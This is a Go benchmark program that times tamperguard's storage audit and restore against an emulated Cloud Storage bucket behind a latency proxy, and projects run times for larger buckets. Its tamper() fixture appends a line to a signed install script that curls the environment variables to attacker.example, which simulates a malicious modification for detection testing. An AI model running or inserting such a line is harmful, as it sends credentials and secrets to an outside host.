// Command audit measures the scheduled audit and the restore through the real path: the
// tamperguard binary (and, for today's figures, the binary of a baseline revision built from
// git) against Cloud Storage emulated in process (fake-gcs-server behind internal/gcstest's
// layer), behind a proxy that adds a fixed latency to every request and counts them
// (internal/faultproxy: requests, bytes, the most in flight at once).
//
//	go run ./bench/audit [-n 1000,10000] [-latency 5ms] [-concurrency 32]
//	                     [-baseline REV] [-baseline-max 10000] [-project 100000]
//
// For each bucket size n it prints, for each run, the wall time, the storage calls (per
// object), the most and the mean requests in flight, and the reads of objects:
//
//	baseline       the baseline revision's `tamperguard audit` (default: where this branch
//	               left main), on at most -baseline-max objects (more are extrapolated, and
//	               say so)
//	first          `tamperguard audit --quiet` on a fresh state bucket (nothing remembered)
//	second         the same again on the unchanged bucket (the memo)
//	no memo        `tamperguard audit --quiet --no-memo` (the pool alone)
//
// then a projection for -project objects at 10 ms and 30 ms per call from the measured calls
// per object and mean concurrency (Little's law: calls × latency / wall), and the restore:
// `tamperguard check --restore` of one tampered object with each binary, its calls and the
// object bytes that went through the client, and the in-process event path (engine.Handle of
// the tampered generation's finalize) of this revision.
package main

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"runtime/pprof"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"cloud.google.com/go/storage"
	"github.com/fsouza/fake-gcs-server/fakestorage"
	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"google.golang.org/api/option"

	"github.com/tamperguard/tamperguard/internal/config"
	"github.com/tamperguard/tamperguard/internal/demo"
	"github.com/tamperguard/tamperguard/internal/engine"
	"github.com/tamperguard/tamperguard/internal/faultproxy"
	"github.com/tamperguard/tamperguard/internal/gcs"
	"github.com/tamperguard/tamperguard/internal/gcstest"
)

const (
	bucket      = "downloads"
	stateBucket = "tamperguard-state"
)

func main() {
	sizes := flag.String("n", "1000,10000", "bucket sizes (objects), comma-separated")
	latency := flag.Duration("latency", 5*time.Millisecond, "latency added to every storage request")
	concurrency := flag.Int("concurrency", engine.DefaultAuditConcurrency, "the audit's --concurrency")
	baseline := flag.String("baseline", "merge-base", `git revision whose tamperguard is today's ("merge-base": where this branch left main; "": none)`)
	baselineMax := flag.Int("baseline-max", 10000, "objects the baseline audits at most (it takes ~25 ms each at 5 ms a call); more are extrapolated")
	project := flag.Int("project", 100000, "objects to project the audit time for")
	cpuProfile := flag.String("cpuprofile", "", "write a CPU profile of this process (the emulated storage and the proxies) to `file`")
	flag.Parse()
	if *cpuProfile != "" {
		f, err := os.Create(*cpuProfile)
		if err == nil {
			_ = pprof.StartCPUProfile(f)
			defer pprof.StopCPUProfile()
		}
	}
	if err := run(*sizes, *latency, *concurrency, *baseline, *baselineMax, *project); err != nil {
		pprof.StopCPUProfile()
		fmt.Fprintln(os.Stderr, "audit bench:", err)
		os.Exit(2)
	}
}

func run(sizeList string, latency time.Duration, conc int, baselineRev string, baselineMax, project int) error {
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Hour)
	defer cancel()
	dir, err := os.MkdirTemp("", "tamperguard-audit-bench-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	root, err := demo.ModuleRoot(ctx)
	if err != nil {
		return err
	}
	t := time.Now()
	newBin := filepath.Join(dir, "tamperguard")
	if err := goBuild(ctx, root, newBin); err != nil {
		return err
	}
	oldBin := ""
	if baselineRev != "" {
		if oldBin, baselineRev, err = buildBaseline(ctx, root, dir, baselineRev); err != nil {
			return err
		}
	}
	fmt.Printf("built tamperguard (this tree) and (baseline) %s in %.1f s (not counted)\n", baselineRev, time.Since(t).Seconds())
	good, err := signedScript(root)
	if err != nil {
		return err
	}
	cfgFile := filepath.Join(dir, "tamperguard.yaml")
	if err := os.WriteFile(cfgFile, []byte(configYAML(root, "dl/*.sh")), 0o600); err != nil {
		return err
	}
	fmt.Printf("machine: %d-core, latency %s per request; audit --concurrency %d\n", runtime.NumCPU(), latency, conc)

	var last *runFigures
	var lastBase *runFigures
	for _, f := range strings.Split(sizeList, ",") {
		n, err := strconv.Atoi(strings.TrimSpace(f))
		if err != nil || n <= 0 {
			return fmt.Errorf("-n: %q is not a size", f)
		}
		env, err := newEnv(latency)
		if err != nil {
			return err
		}
		names := seed(env.srv.Fake, n, good)
		t := time.Now()
		if err := env.record(ctx, names); err != nil {
			return err
		}
		fmt.Printf("\n== %d objects (%d bytes each; the emulator's answers to reads recorded in %.0f s, not counted) ==\n", n, len(good), time.Since(t).Seconds())
		var base *runFigures
		if oldBin != "" {
			m := min(n, baselineMax)
			cfg := cfgFile
			if m < n {
				// The baseline audits the first m names (a rule for them alone) and is
				// extrapolated to n.
				cfg = filepath.Join(dir, "baseline.yaml")
				if err := os.WriteFile(cfg, []byte(configYAML(root, names[:m]...)), 0o600); err != nil {
					return err
				}
			}
			base, err = env.audit(ctx, "baseline", oldBin, m, "audit", "--config", cfg)
			if err != nil {
				return err
			}
			if m < n {
				base = base.scaled(n)
			}
			base.print()
			env.clearState()
		}
		first, err := env.audit(ctx, "first", newBin, n, "audit", "--config", cfgFile, "--quiet", "--concurrency", strconv.Itoa(conc))
		if err != nil {
			return err
		}
		first.print()
		second, err := env.audit(ctx, "second", newBin, n, "audit", "--config", cfgFile, "--quiet", "--concurrency", strconv.Itoa(conc))
		if err != nil {
			return err
		}
		second.print()
		nomemo, err := env.audit(ctx, "no memo", newBin, n, "audit", "--config", cfgFile, "--quiet", "--no-memo", "--concurrency", strconv.Itoa(conc))
		if err != nil {
			return err
		}
		nomemo.print()
		if base != nil {
			fmt.Printf("  first audit %.1fx faster than the baseline; second audit: %.2f %% of the first's calls\n",
				base.wall.Seconds()/first.wall.Seconds(), 100*float64(second.calls)/float64(first.calls))
		} else {
			fmt.Printf("  second audit: %.2f %% of the first's calls\n", 100*float64(second.calls)/float64(first.calls))
		}
		last, lastBase = first, base
		last.second = second
		env.close()
	}

	if last != nil {
		fmt.Printf("\n== projection: %d objects, from the %d-object runs ==\n", project, last.n)
		for _, l := range []time.Duration{10 * time.Millisecond, 30 * time.Millisecond} {
			first := last.project(project, l)
			second := last.second.project(project, l)
			line := fmt.Sprintf("  %s per call: first audit %s, an unchanged bucket again %s", l, round(first), round(second))
			if lastBase != nil {
				line += fmt.Sprintf("; baseline %s", round(lastBase.project(project, l)))
			}
			fmt.Println(line + " (function timeout 540 s)")
		}
		fmt.Printf("  method: calls per object × %d objects × latency / the mean requests in flight measured (%.1f first, %.1f second; at least 1),\n"+
			"  or tamperguard's CPU per object measured × %d (%.2f ms first, %.3f ms second), whichever is longer\n",
			project, last.meanInFlight(), last.second.meanInFlight(), project,
			float64(last.cpu.Microseconds())/1000/float64(last.n), float64(last.second.cpu.Microseconds())/1000/float64(last.n))
	}

	fmt.Printf("\n== restore of one tampered object (latency %s) ==\n", latency)
	env, err := newEnv(latency)
	if err != nil {
		return err
	}
	defer env.close()
	seed(env.srv.Fake, 3, good)
	bins := [][2]string{{"this tree", newBin}}
	if oldBin != "" {
		bins = append([][2]string{{"baseline", oldBin}}, bins...)
	}
	for i, b := range bins {
		obj := fmt.Sprintf("dl/tampered%d.sh", i)
		if err := env.tamper(ctx, obj, good); err != nil {
			return err
		}
		// A check of a good object first, in its own process: what every run pays (the
		// release's rollback mark) before any restore.
		ok, err := env.audit(ctx, b[0]+": check, ok", b[1], 1, "check", "--config", cfgFile, "gs://"+bucket+"/dl/f000000.sh")
		if err != nil {
			return err
		}
		r, err := env.audit(ctx, b[0]+": check --restore", b[1], 1, "check", "--config", cfgFile, "--restore", "gs://"+bucket+"/"+obj)
		if err != nil && !errors.Is(err, errTampered) {
			return err
		}
		fmt.Printf("  %-32s %3d calls (a check of an ok object: %d); object reads %d, uploads into the bucket %d, copies %d; all bytes through the client %d down, %d up; %s\n",
			b[0]+": check --restore", r.calls, ok.calls, r.objectReads, r.uploadsWatched, r.copiesIn, r.objectDown, r.objectUp, r.wall.Round(time.Millisecond))
	}
	return env.eventRestore(ctx, root, good)
}

// ---- the environment ---------------------------------------------------------------------

type env struct {
	srv      *gcstest.Server
	front    *http.Server
	frontURL string
	proxy    *faultproxy.Proxy
	stats    *requestKinds
	latency  time.Duration
	replay   *replay     // nil: every request goes to the emulator
	warming  atomic.Bool // no latency while answers are recorded
}

// requestKinds counts requests by what they are, as the proxy sees them.
type requestKinds struct {
	objectReads atomic.Int64
	uploads     atomic.Int64 // into the watched bucket
	copies      atomic.Int64
}

func newEnv(latency time.Duration) (*env, error) {
	srv, err := gcstest.Start(gcstest.BucketSpec{Name: bucket, Versioning: true}, gcstest.BucketSpec{Name: stateBucket, Versioning: true})
	if err != nil {
		return nil, err
	}
	target, _ := url.Parse(srv.URL)
	rp := &httputil.ReverseProxy{Rewrite: func(pr *httputil.ProxyRequest) {
		pr.SetURL(target)
		pr.Out.Host = srv.PublicHost() // what routes the fake's path-style reads
	}}
	e := &env{srv: srv, stats: &requestKinds{}, latency: latency}
	e.front = &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if !e.warming.Load() {
			time.Sleep(latency) // a benchmark may use real time: this is the latency it measures
		}
		if e.replay != nil && r.Method == http.MethodGet && (strings.HasPrefix(r.URL.Path, "/"+bucket+"/") ||
			strings.HasPrefix(r.URL.Path, "/storage/v1/b/"+bucket+"/o/")) {
			e.replay.serve(w, r, rp)
			return
		}
		rp.ServeHTTP(w, r)
	})}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		srv.Close()
		return nil, err
	}
	go func() { _ = e.front.Serve(ln) }()
	e.frontURL = "http://" + ln.Addr().String()
	p, err := faultproxy.Start(e.frontURL, faultproxy.WithLogLimit(0))
	if err != nil {
		srv.Close()
		return nil, err
	}
	e.proxy = p
	// A rule that never applies, to count requests by kind as they pass.
	read := srv.Match(gcstest.OpRead, bucket, "")
	upload := srv.Match(gcstest.OpUpload, bucket, "")
	cp := srv.Match(gcstest.OpCopy, bucket, "")
	p.Add(faultproxy.Rule{Name: "count", When: faultproxy.Always(), Fault: faultproxy.Status(500), Match: func(r *http.Request) bool {
		switch {
		case read(r):
			e.stats.objectReads.Add(1)
		case upload(r):
			e.stats.uploads.Add(1)
		case cp(r) && strings.Contains(r.URL.EscapedPath(), "/rewriteTo/b/"+bucket+"/"):
			e.stats.copies.Add(1)
		}
		return false
	}})
	return e, nil
}

// replay answers reads of the watched bucket's objects (their bytes and attributes, by
// generation or live) from the emulator's own answers, recorded before the runs.
//
// fake-gcs-server's memory backend finds an object by formatting the id of every object in
// the bucket (fmt.Sprintf in a loop): about 3 ms of CPU per request at 10,000 objects, more
// than the latency measured, and quadratic over an audit. Cloud Storage's lookups do not grow
// with the bucket. The bucket does not change while the audits run, so each answer recorded
// once stays the answer: with it, the figures are the latency's and tamperguard's, for the
// baseline as for this revision. Listings, and everything in the state bucket, still go to
// the emulator.
type replay struct {
	mu      sync.RWMutex
	answers map[string]recorded
	hits    atomic.Int64
	misses  atomic.Int64
}

type recorded struct {
	status int
	header http.Header
	body   []byte
}

func (p *replay) serve(w http.ResponseWriter, r *http.Request, next http.Handler) {
	key := r.URL.Path + "?" + r.URL.RawQuery
	p.mu.RLock()
	a, ok := p.answers[key]
	p.mu.RUnlock()
	if !ok {
		p.misses.Add(1)
		rec := httptest.NewRecorder()
		next.ServeHTTP(rec, r)
		a = recorded{status: rec.Code, header: rec.Header().Clone(), body: rec.Body.Bytes()}
		if rec.Code == http.StatusOK {
			p.mu.Lock()
			p.answers[key] = a
			p.mu.Unlock()
		}
	} else {
		p.hits.Add(1)
	}
	for k, v := range a.header {
		w.Header()[k] = v
	}
	w.WriteHeader(a.status)
	_, _ = w.Write(a.body)
}

// record reads every object once through the front the ways the audits do (the live
// attributes, the generation's, its bytes), without latency, so that the runs find the
// answers recorded.
func (e *env) record(ctx context.Context, names []string) error {
	e.replay = &replay{answers: map[string]recorded{}}
	e.warming.Store(true)
	defer e.warming.Store(false)
	client, err := gcs.NewClient(ctx, option.WithEndpoint(e.frontURL+"/storage/v1/"), option.WithoutAuthentication())
	if err != nil {
		return err
	}
	defer client.Close()
	work := make(chan string)
	errs := make(chan error, 4)
	var wg sync.WaitGroup
	for range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for name := range work {
				o := client.Bucket(bucket).Object(name)
				a, err := o.Attrs(ctx)
				if err == nil {
					_, err = o.Generation(a.Generation).Attrs(ctx)
				}
				if err == nil {
					var r *storage.Reader
					if r, err = o.Generation(a.Generation).ReadCompressed(true).NewReader(ctx); err == nil {
						_, err = io.Copy(io.Discard, r)
						r.Close()
					}
				}
				if err != nil {
					select {
					case errs <- fmt.Errorf("recording %s: %w", name, err):
					default:
					}
				}
			}
		}()
	}
	for _, n := range names {
		work <- n
	}
	close(work)
	wg.Wait()
	select {
	case err := <-errs:
		return err
	default:
	}
	e.replay.hits.Store(0)
	e.replay.misses.Store(0)
	return nil
}

func (e *env) close() {
	e.proxy.Close()
	_ = e.front.Close()
	e.srv.Close()
}

// clearState deletes the live records of the state bucket (incidents, marks, the audit's
// records), so that the next run starts with nothing remembered.
func (e *env) clearState() {
	resp, err := e.srv.Fake.ListObjectsWithOptionsPaginated(stateBucket, fakestorage.ListOptions{})
	if err != nil {
		return
	}
	for _, o := range resp.Objects {
		_ = e.srv.Fake.Backend().DeleteObject(stateBucket, o.Name)
	}
}

// seed writes n copies of the signed script, named dl/f000000.sh on, straight into the fake.
func seed(fake *fakestorage.Server, n int, good []byte) []string {
	names := make([]string, n)
	for i := range n {
		names[i] = fmt.Sprintf("dl/f%06d.sh", i)
		fake.CreateObject(fakestorage.Object{
			ObjectAttrs: fakestorage.ObjectAttrs{BucketName: bucket, Name: names[i], ContentType: "text/x-shellscript"},
			Content:     good,
		})
	}
	return names
}

// tamper writes the signed script as obj, then the attacker's version over it.
func (e *env) tamper(ctx context.Context, obj string, good []byte) error {
	for _, b := range [][]byte{good, append(bytes.Clone(good), "curl -sd \"$(env)\" https://attacker.example/ || true\n"...)} {
		w := e.srv.Client.Bucket(bucket).Object(obj).NewWriter(ctx)
		w.ContentType = "text/x-shellscript"
		if _, err := w.Write(b); err != nil {
			return err
		}
		if err := w.Close(); err != nil {
			return err
		}
	}
	return nil
}

// ---- one run ------------------------------------------------------------------------------

type runFigures struct {
	name                     string
	n                        int
	wall                     time.Duration
	cpu                      time.Duration // of the tamperguard process
	calls                    int
	maxInFlight              int
	objectReads              int64
	objectDown, objectUp     int64 // all bytes to and from the client
	extrapolatedFrom         int
	latency                  time.Duration
	second                   *runFigures
	uploadsWatched, copiesIn int64
	replayed, notReplayed    int64 // reads answered from the recorded answers, and not
}

var errTampered = errors.New("exit 1 (tampered)")

// audit runs bin with args through the proxy and measures it; n is the objects it covers.
func (e *env) audit(ctx context.Context, name, bin string, n int, args ...string) (*runFigures, error) {
	e.proxy.ResetMaxInFlight()
	before := e.proxy.Stats()
	reads, ups, cps := e.stats.objectReads.Load(), e.stats.uploads.Load(), e.stats.copies.Load()
	var hits, misses int64
	if e.replay != nil {
		hits, misses = e.replay.hits.Load(), e.replay.misses.Load()
	}
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.Env = append(os.Environ(), "STORAGE_EMULATOR_HOST="+e.proxy.Host(), "SLACK_WEBHOOK_URL=", "SLACK_BOT_TOKEN=")
	var stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = io.Discard, &stderr
	t := time.Now()
	err := cmd.Run()
	wall := time.Since(t)
	var xerr *exec.ExitError
	switch {
	case errors.As(err, &xerr) && xerr.ExitCode() == 1:
		err = errTampered
	case err != nil:
		return nil, fmt.Errorf("%s: %s %s: %w\n%s", name, bin, strings.Join(args, " "), err, tail(stderr.String()))
	}
	after := e.proxy.Stats()
	f := &runFigures{name: name, n: n, wall: wall, cpu: cmd.ProcessState.UserTime() + cmd.ProcessState.SystemTime(),
		calls: after.Requests - before.Requests, maxInFlight: after.MaxInFlight,
		objectReads: e.stats.objectReads.Load() - reads, uploadsWatched: e.stats.uploads.Load() - ups,
		copiesIn: e.stats.copies.Load() - cps}
	f.objectDown, f.objectUp = after.BytesOut-before.BytesOut, after.BytesIn-before.BytesIn
	f.latency = e.latency
	if e.replay != nil {
		f.replayed, f.notReplayed = e.replay.hits.Load()-hits, e.replay.misses.Load()-misses
	}
	return f, err
}

func tail(s string) string {
	if len(s) > 2000 {
		return "…" + s[len(s)-2000:]
	}
	return s
}

// scaled extrapolates a run on fewer objects to n (calls and time grow with the objects).
func (f *runFigures) scaled(n int) *runFigures {
	c := *f
	k := float64(n) / float64(f.n)
	c.extrapolatedFrom, c.n = f.n, n
	c.wall = time.Duration(float64(f.wall) * k)
	c.calls = int(float64(f.calls) * k)
	c.cpu = time.Duration(float64(f.cpu) * k)
	c.objectReads = int64(float64(f.objectReads) * k)
	c.replayed = int64(float64(f.replayed) * k)
	c.notReplayed = int64(float64(f.notReplayed) * k)
	return &c
}

func (f *runFigures) meanInFlight() float64 {
	return float64(f.calls) * f.latency.Seconds() / f.wall.Seconds()
}

func (f *runFigures) print() {
	extra := ""
	if f.extrapolatedFrom != 0 {
		extra = fmt.Sprintf(" (extrapolated from %d objects)", f.extrapolatedFrom)
	}
	fmt.Printf("  %-10s %9s  %6d calls (%.3f per object)  in flight: max %d, mean %.1f  object reads %d  tamperguard CPU %s%s\n",
		f.name, round(f.wall), f.calls, float64(f.calls)/float64(f.n), f.maxInFlight, f.meanInFlight(), f.objectReads, round(f.cpu), extra)
	if f.notReplayed > 0 {
		fmt.Printf("             (%d object reads were not among the recorded answers: they went to the emulator)\n", f.notReplayed)
	}
}

// project is the time for n objects at l per call: the calls per object measured, at the
// mean concurrency measured (at least one: a run whose process start outweighs its few
// requests made them one after the other), or tamperguard's CPU time per object measured,
// whichever bounds it.
func (f *runFigures) project(n int, l time.Duration) time.Duration {
	calls := float64(f.calls) / float64(f.n) * float64(n)
	io := time.Duration(calls * float64(l) / max(1, f.meanInFlight()))
	cpu := time.Duration(float64(f.cpu) / float64(f.n) * float64(n))
	return max(io, cpu)
}

func round(d time.Duration) string {
	switch {
	case d >= time.Minute:
		return fmt.Sprintf("%.1f min", d.Minutes())
	case d >= 10*time.Second:
		return fmt.Sprintf("%.0f s", d.Seconds())
	default:
		return fmt.Sprintf("%.2f s", d.Seconds())
	}
}

// ---- the event path, in process -------------------------------------------------------------

// eventRestore measures engine.Handle of a tampered finalize in process, this revision only:
// an instance that judged the good generation's own event, and one that never saw it.
func (e *env) eventRestore(ctx context.Context, root string, good []byte) error {
	cfg, err := config.Parse(config.Source{Name: "bench.yaml", Data: []byte(configYAML(root, "dl/*.sh")), Dir: root})
	if err != nil {
		return err
	}
	client, err := gcs.NewClient(ctx, option.WithEndpoint("http://"+e.proxy.Host()+"/storage/v1/"), option.WithoutAuthentication())
	if err != nil {
		return err
	}
	defer client.Close()
	for i, seen := range []bool{true, false} {
		eng, err := engine.New(engine.Options{Store: gcs.New(client), Policy: cfg.Policy})
		if err != nil {
			return err
		}
		obj := fmt.Sprintf("dl/event%d.sh", i)
		w := e.srv.Client.Bucket(bucket).Object(obj).NewWriter(ctx)
		w.ContentType = "text/x-shellscript"
		_, _ = w.Write(good)
		if err := w.Close(); err != nil {
			return err
		}
		goodGen := w.Attrs().Generation
		// Warm: the release (and its mark) resolved once, as a running instance has it.
		if d := eng.Check(ctx, bucket, "dl/f000000.sh", 0, false); d.Verdict != engine.VerdictOK {
			return fmt.Errorf("warm-up check: %s %s", d.Verdict, d.Error)
		}
		if seen {
			eng.Check(ctx, bucket, obj, goodGen, false)
		}
		w = e.srv.Client.Bucket(bucket).Object(obj).NewWriter(ctx)
		_, _ = w.Write(append(bytes.Clone(good), "echo pwned\n"...))
		if err := w.Close(); err != nil {
			return err
		}
		badGen := w.Attrs().Generation
		before := e.proxy.Stats()
		reads, ups, cps := e.stats.objectReads.Load(), e.stats.uploads.Load(), e.stats.copies.Load()
		t := time.Now()
		d := eng.Handle(ctx, engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: obj, Generation: badGen})
		wall := time.Since(t)
		after := e.proxy.Stats()
		if d.Action != engine.ActionRestored {
			return fmt.Errorf("event restore: %s %s", d.Action, d.Error)
		}
		settle := e.proxy.Stats()
		_ = eng.Settle(&d, nil)
		what := "the good generation judged by this instance before"
		if !seen {
			what = "the good generation never seen by this instance"
		}
		fmt.Printf("  %-32s %3d calls + %d for the alert's record (%s); object reads %d, uploads into the bucket %d, copies %d, restore verified by %s; %s\n",
			"event (engine.Handle)", after.Requests-before.Requests, e.proxy.Stats().Requests-settle.Requests, what,
			e.stats.objectReads.Load()-reads, e.stats.uploads.Load()-ups, e.stats.copies.Load()-cps, d.RestoreVerified, wall.Round(time.Millisecond))
	}
	return nil
}

// ---- builds and fixtures ---------------------------------------------------------------------

func goBuild(ctx context.Context, dir, out string) error {
	cmd := exec.CommandContext(ctx, "go", "build", "-o", out, "./cmd/tamperguard")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GOPROXY=off", "GOTOOLCHAIN=local", "GOFLAGS=-mod=mod")
	if b, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("go build in %s: %w\n%s", dir, err, b)
	}
	return nil
}

// buildBaseline builds tamperguard as of rev (extracted with git archive; the repository is
// not changed) and returns the binary and the revision's short id.
func buildBaseline(ctx context.Context, root, dir, rev string) (string, string, error) {
	if rev == "merge-base" {
		out, err := exec.CommandContext(ctx, "git", "-C", root, "merge-base", "HEAD", "main").Output()
		if err != nil {
			return "", "", fmt.Errorf("git merge-base HEAD main (give -baseline REV): %w", err)
		}
		rev = strings.TrimSpace(string(out))
	}
	out, err := exec.CommandContext(ctx, "git", "-C", root, "rev-parse", "--short", rev).Output()
	if err != nil {
		return "", "", fmt.Errorf("git rev-parse %s: %w", rev, err)
	}
	short := strings.TrimSpace(string(out))
	src := filepath.Join(dir, "baseline-src")
	if err := os.MkdirAll(src, 0o755); err != nil {
		return "", "", err
	}
	archive := exec.CommandContext(ctx, "git", "-C", root, "archive", "--format=tar", rev)
	untar := exec.CommandContext(ctx, "tar", "-x", "-C", src)
	pipe, err := archive.StdoutPipe()
	if err != nil {
		return "", "", err
	}
	untar.Stdin = pipe
	if err := untar.Start(); err != nil {
		return "", "", err
	}
	if err := archive.Run(); err != nil {
		return "", "", fmt.Errorf("git archive %s: %w", rev, err)
	}
	if err := untar.Wait(); err != nil {
		return "", "", err
	}
	bin := filepath.Join(dir, "tamperguard-"+short)
	return bin, short, goBuild(ctx, src, bin)
}

// signedScript is install.sh as release v1.2.0 of the fixture repository signed it.
func signedScript(root string) ([]byte, error) {
	repo, err := git.PlainOpen(filepath.Join(root, "testdata", "git", "uploader.git"))
	if err != nil {
		return nil, err
	}
	ref, err := repo.Reference(plumbing.NewTagReferenceName("v1.2.0"), true)
	if err != nil {
		return nil, err
	}
	to, err := repo.TagObject(ref.Hash())
	if err != nil {
		return nil, err
	}
	c, err := repo.CommitObject(to.Target)
	if err != nil {
		return nil, err
	}
	f, err := c.File("install.sh")
	if err != nil {
		return nil, err
	}
	s, err := f.Contents()
	return []byte(s), err
}

// configYAML is a configuration with one rule for the given object patterns.
func configYAML(root string, objects ...string) string {
	quoted := make([]string, len(objects))
	for i, o := range objects {
		quoted[i] = strconv.Quote(o)
	}
	return fmt.Sprintf(`state: {bucket: %s}
rules:
  - bucket: %s
    objects: [%s]
    release: {git: %s, tag: v1.2.0, entry: install.sh}
    keys: {openpgp: [%s]}
    metadata: {content_type: text/x-shellscript}
`, stateBucket, bucket, strings.Join(quoted, ", "), filepath.Join(root, "testdata", "git", "uploader.git"),
		filepath.Join(root, "testdata", "keys", "maintainer-rsa3072.asc"))
}
